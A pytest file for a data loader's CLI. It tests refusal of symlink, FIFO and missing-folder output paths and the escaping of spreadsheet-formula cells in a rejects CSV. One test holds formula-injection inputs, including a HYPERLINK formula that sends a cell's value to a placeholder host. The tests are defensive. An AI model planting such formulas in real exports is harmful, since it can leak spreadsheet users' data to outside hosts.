"""What ``lineage load`` writes besides the graph: ``--rejects`` and ``--report`` (issue 17, item 12).

Every output path is checked before anything is read or written: a path that
is a symbolic link or a FIFO, or whose folder is missing (``--report`` and
``--rejects`` alike: neither makes a folder), is one
line and exit code 2 with the graph untouched (a ``--report`` into a missing
folder used to fail after the load had been committed; a ``--rejects`` link
or FIFO used to be replaced by a regular file). And a rejected row that a
spreadsheet would run as a formula is written with a ``'`` in front.
"""

from __future__ import annotations

import csv
import os
from pathlib import Path

import pytest
from click.testing import CliRunner

from graph_loader.rejects import RejectsFile, cell_text
from lineage.cli import main

BASE = Path(__file__).resolve().parent / "data" / "bad" / "base"


def node_count(graph) -> int:
    return graph.read_text("MATCH (n) RETURN count(n) AS n")[0]["n"]


def load(env: dict, *args: str):
    return CliRunner().invoke(main, ["load", str(BASE), *args], env=env)


def one_line_error(result, *words: str) -> str:
    output = result.output.strip()
    assert result.exit_code == 2, output
    assert "Traceback" not in output and len(output.splitlines()) == 1, output
    for word in words:
        assert word in output, output
    return output


def make_target(tmp: Path, kind: str) -> Path:
    """A path that is not a regular file: a link to a precious file, or a FIFO."""
    target = tmp / "out.csv"
    if kind == "symlink":
        (tmp / "precious.txt").write_text("keep me\n")
        target.symlink_to(tmp / "precious.txt")
    else:
        os.mkfifo(target)
    return target


def unchanged(tmp: Path, target: Path, kind: str) -> None:
    if kind == "symlink":
        assert target.is_symlink() and (tmp / "precious.txt").read_text() == "keep me\n"
    else:
        assert target.is_fifo()
    assert not list(tmp.glob("*.partial"))


@pytest.mark.neo4j
@pytest.mark.parametrize("option", ["--rejects", "--report"])
@pytest.mark.parametrize("kind", ["symlink", "fifo"])  # a folder click itself refuses
def test_an_output_that_is_not_a_regular_file_is_refused_before_the_load(graph, cli_env, tmp_path, option, kind):
    target = make_target(tmp_path, kind)
    result = load(cli_env, option, str(target))
    one_line_error(result, option, str(target))
    unchanged(tmp_path, target, kind)
    assert node_count(graph) == 0


@pytest.mark.neo4j
def test_a_report_into_a_missing_folder_fails_before_the_load(graph, cli_env, tmp_path):
    report = tmp_path / "no" / "such" / "report.json"
    result = load(cli_env, "--report", str(report))
    one_line_error(result, "--report", "does not exist")
    assert node_count(graph) == 0 and not report.parent.exists()


@pytest.mark.neo4j
def test_rejects_into_a_missing_folder_are_refused_before_the_load(graph, cli_env, tmp_path):
    """Issue 11: ``--rejects`` into a missing folder made it without a word (a typo scattered files); now,
    as ``--report``, it is one line and exit 2 with nothing written. The default rejects path under the
    home is the loader's own, and its folder is still made."""
    rejects = tmp_path / "new" / "rejects.csv"
    result = load(cli_env, "--rejects", str(rejects))
    one_line_error(result, "--rejects", "does not exist")
    assert node_count(graph) == 0 and not rejects.parent.exists()
    result = load(cli_env)
    assert result.exit_code == 0, result.output
    assert list((Path(cli_env["LINEAGE_HOME"]) / "rejects").glob("*.rejects.csv"))


@pytest.mark.neo4j
def test_cells_a_spreadsheet_would_run_are_neutralised(graph, cli_env, tmp_path):
    folder = tmp_path / "ds"
    folder.mkdir()
    for file in BASE.iterdir():
        (folder / file.name).write_bytes(file.read_bytes())
    rows = ['=HYPERLINK("http://example.invalid/?"&A1),Formula,music,2023-02-30,,,,',
            "@SUM(1),At,music,2023-02-30,,,,", "+1,Plus,music,2023-02-30,,,,", "-1,Minus,music,2023-02-30,,,,",
            "'quoted,Quote,music,2023-02-30,,,,", "plain,Plain,music,2023-02-30,,,,"]
    with open(folder / "works.csv", "a", encoding="utf-8") as works:
        works.write("\n".join(rows) + "\n")
    rejects = tmp_path / "rejects.csv"
    result = CliRunner().invoke(main, ["load", str(folder), "--rejects", str(rejects)], env=cli_env)
    assert result.exit_code == 0, result.output
    with open(rejects, newline="", encoding="utf-8") as handle:
        cells = [row["raw"] for row in csv.DictReader(handle)]
    assert cells == ["'" + row for row in rows[:5]] + [rows[5]]
    assert [cell_text(cell) for cell in cells] == rows  # the raw row is recoverable, exactly


def test_a_link_or_fifo_planted_at_a_partial_name_is_never_written_through(tmp_path):
    """Each load writes a partial file of its own, made new (O_EXCL): names planted beside it are left alone."""
    (tmp_path / "precious.txt").write_text("keep me\n")
    (tmp_path / "rejects.csv.partial").symlink_to(tmp_path / "precious.txt")
    os.mkfifo(tmp_path / "rejects.csv.x.partial")
    with RejectsFile(tmp_path / "rejects.csv") as rejects:
        rejects.add("works.csv", 2, "bad_date", "m", "w1")
    assert (tmp_path / "precious.txt").read_text() == "keep me\n"
    assert (tmp_path / "rejects.csv").read_text().splitlines()[1] == "works.csv,2,bad_date,m,w1"


def test_a_stale_partial_file_is_replaced(tmp_path):
    (tmp_path / "rejects.csv.partial").write_text("left by a load that was killed, longer than the new one\n" * 9)
    with RejectsFile(tmp_path / "rejects.csv") as rejects:
        rejects.add("works.csv", 2, "bad_date", "m", "w1")
    assert (tmp_path / "rejects.csv").read_text().splitlines() == ["file,line,reason,message,raw",
                                                                   "works.csv,2,bad_date,m,w1"]
